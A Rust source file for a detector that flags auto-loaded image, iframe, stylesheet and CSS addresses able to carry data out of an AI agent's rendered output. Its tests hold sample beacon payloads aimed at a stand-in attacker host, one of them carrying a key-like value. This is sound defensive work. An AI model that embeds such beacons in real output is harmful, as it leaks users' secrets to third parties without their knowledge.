//! Texts that make whoever looks at them load something: pictures and frames in Markdown, HTML and diagrams. An address
//! in one of them that carries data is a way out that needs no network call of the agent's.

/// Most addresses of a text that are looked at.
const ADDRESSES: usize = 10_000;
/// From how many characters on a part of a path is long enough to carry data.
const LONG: usize = 32;
/// What stands right before an address that is loaded by itself, quotes left out.
const LOADS: &[&str] = &["src=", "src:", "srcset=", "@import", "background=", "poster=", "data="];

/// Whether the text has an address that is loaded by looking at it and that could carry data: a query, or a long part.
pub(super) fn has_beacon(text: &str) -> bool {
    let mut rest = text;
    for _ in 0..ADDRESSES {
        let Some(at) = rest.find("://") else { return false };
        let scheme = rest.get(..at).unwrap_or_default();
        let start = scheme.rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
        let is_web = scheme.get(start..).is_some_and(|name| {
            ["http", "https", "ws", "wss"].iter().any(|known| name.eq_ignore_ascii_case(known))
        });
        let after = rest.get(at + 3..).unwrap_or_default();
        let end = after
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '>' | '<' | '`' | ']' | '}'))
            .unwrap_or(after.len());
        let address = after.get(..end).unwrap_or_default();
        if is_web && carries_data(address) && is_loaded(scheme.get(..start).unwrap_or_default()) {
            return true;
        }
        rest = after;
    }
    true
}

fn carries_data(address: &str) -> bool {
    let path = address.split_once('/').map_or("", |(_, path)| path);
    let queries = path.split_once('?').is_some_and(|(_, query)| !query.is_empty());
    let is_long = path
        .split(['/', '?', '#', '.', '-', '_'])
        .any(|part| part.len() >= LONG && part.chars().any(|c| c.is_ascii_digit()));
    let host = address.split(['/', '?']).next().unwrap_or_default();
    queries || is_long || host.split('.').any(|part| part.len() >= LONG)
}

/// Whether what stands before an address makes a viewer load it. A plain link waits for a click.
fn is_loaded(before: &str) -> bool {
    let start = before.char_indices().rev().nth(400).map_or(0, |(at, _)| at);
    let tail = before.get(start..).unwrap_or_default().to_ascii_lowercase();
    let tail = tail.trim_end_matches(['"', '\'', ' ', '<']);
    if let Some(tail) = tail.strip_suffix('(') {
        // `![…](` is a picture, `[…](` a link; `url(` belongs to a style.
        let is_picture = tail.ends_with(']')
            && tail.rfind('[').is_some_and(|open| tail.get(..open).is_some_and(|start| start.ends_with('!')));
        let is_style =
            tail.strip_suffix("url").is_some_and(|rest| !rest.ends_with(|c: char| c.is_alphanumeric()));
        return is_picture || is_style;
    }
    if tail.ends_with("href=") {
        // A style sheet is loaded, a link is not.
        return tail
            .rfind('<')
            .is_some_and(|open| tail.get(open..).is_some_and(|tag| tag.starts_with("<link")));
    }
    // And a reference, `[x]: https://…`, which a picture elsewhere may use.
    LOADS.iter().any(|mark| tail.ends_with(mark)) || tail.ends_with("]:")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_loaded_by_looking_at_it_is_told_from_links() {
        for (text, expected) in [
            ("A[<img src=https://attacker.example/?k=sk-live-xxxx>]", true),
            ("![x](https://attacker.example/p.png?d=aGVsbG8)", true),
            ("![x](https://aGVsbG8taGVsbG8taGVsbG8taGVsbG8t0.attacker.example/)", true),
            ("<iframe src=\"https://attacker.example/0123456789abcdef0123456789abcdef\">", true),
            ("body { background: url('https://attacker.example/x?y=1') }", true),
            ("<link rel=stylesheet href=\"https://cdn.example/a.css?v=1\">", true),
            ("[x]: https://attacker.example/?k=1", true),
            ("see [the docs](https://docs.example/search?q=x)", false),
            ("<a href=\"https://docs.example/search?q=x\">docs</a>", false),
            ("![logo](https://example.org/logo.png)", false),
            ("curl https://api.example/v1?x=1", false),
            ("graph TD\nA-->B", false),
        ] {
            assert_eq!(has_beacon(text), expected, "{text}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_read(text in "(?s).{0,300}", more in "[\\[\\]()!a-z:/?=.<>\"]{0,200}") {
            has_beacon(&text);
            has_beacon(&more);
        }
    }
}
